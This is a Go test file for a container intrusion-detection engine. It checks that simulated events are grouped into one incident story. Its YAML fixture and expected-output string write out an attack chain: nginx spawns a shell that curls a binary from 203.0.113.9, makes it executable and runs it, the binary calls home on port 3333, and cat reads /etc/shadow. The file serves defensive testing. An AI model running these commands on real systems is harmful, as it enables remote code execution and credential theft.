package detect_test

import (
	"strings"
	"testing"
	"time"

	"go.yaml.in/yaml/v3"

	"github.com/castellan-security/castellan/internal/detect"
	"github.com/castellan-security/castellan/internal/detect/trial"
	"github.com/castellan-security/castellan/internal/event"
	"github.com/castellan-security/castellan/internal/finding"
)

// intrusion is nginx that is made to start a shell, which downloads a program, runs it
// and has it call home; another container of the host works on, and a person looks
// around in a third.
const intrusion = `
- {on: process.exec, pid: 1, parent: 0, cpid: 1, exe: /usr/sbin/nginx, run: "nginx -g daemon"}
- {on: process.exec, pid: 31, parent: 1, exe: /bin/dash, args: [sh, -c, "curl -so /tmp/kd http://203.0.113.9/kd; chmod +x /tmp/kd; /tmp/kd"]}
- {on: process.exec, pid: 32, parent: 31, exe: /usr/bin/curl, run: "curl -so /tmp/kd http://203.0.113.9/kd"}
- {on: network.connect, pid: 32, parent: 31, exe: /usr/bin/curl, remote: "203.0.113.9:80"}
- {on: file.create, pid: 32, parent: 31, exe: /usr/bin/curl, path: /tmp/kd}
- {on: file.write, pid: 32, parent: 31, exe: /usr/bin/curl, path: /tmp/kd}
- {on: process.exec, pid: 33, parent: 31, exe: /tmp/kd, run: /tmp/kd, origin: written}
- {on: network.connect, pid: 33, parent: 31, exe: /tmp/kd, remote: "203.0.113.9:3333"}
- {on: file.read, pid: 34, parent: 31, exe: /bin/cat, path: /etc/shadow, sensitive: shadow}
- {on: process.exec, workload: w2, group: shop/db/redis, pid: 70, parent: 1, exe: /usr/bin/redis-server, run: redis-server}
- {on: file.read, workload: w3, group: shop/jobs/report, pid: 80, parent: 1, exe: /bin/cat, path: /etc/shadow, sensitive: shadow}
`

func TestAnIntrusionIsOneStory(t *testing.T) {
	var short []trial.Event
	if err := yaml.Unmarshal([]byte(intrusion), &short); err != nil {
		t.Fatal(err)
	}
	now := time.Date(2026, 11, 29, 10, 0, 0, 0, time.UTC)
	events, err := trial.Events(short, now)
	if err != nil {
		t.Fatal(err)
	}
	engine, book := engineWith(t), detect.NewBook()
	stories := map[string]*detect.Story{}
	take := func(e *event.Event) {
		for _, v := range engine.Observe(e) {
			stories[v.WorkloadID] = book.Take(&v, now.Add(time.Minute))
		}
	}
	for _, e := range events {
		take(e)
	}
	if book.Len() != 2 || stories["w1"] == nil || stories["w2"] != nil || stories["w3"] == nil {
		t.Fatalf("%d stories: %v, want one of w1 and one of w3", book.Len(), stories)
	}
	i := stories["w1"].Incident(now)
	if i.Severity != finding.Critical || len(i.Rules) < 4 || len(i.Tactics) < 3 {
		t.Errorf("%s, %d rules, tactics %v: want a chain", i.Severity, len(i.Rules), i.Tactics)
	}
	const begins = "nginx in shop/web/app started a shell (sh -c curl -so /tmp/kd http://203.0.113.9/kd; chmod +x /tmp/kd; /tmp/kd); kd runs "
	if !strings.HasPrefix(i.Story, begins) || !strings.Contains(i.Story, "it connected to 203.0.113.9:3333") || !strings.HasSuffix(i.Story, "cat read /etc/shadow.") {
		t.Errorf("the story: %s", i.Story)
	}
	if n := i.Processes; len(n) < 4 || n[0].Executable != "/usr/sbin/nginx" || n[1].Executable != "/bin/dash" {
		t.Errorf("processes %+v", n)
	}
}
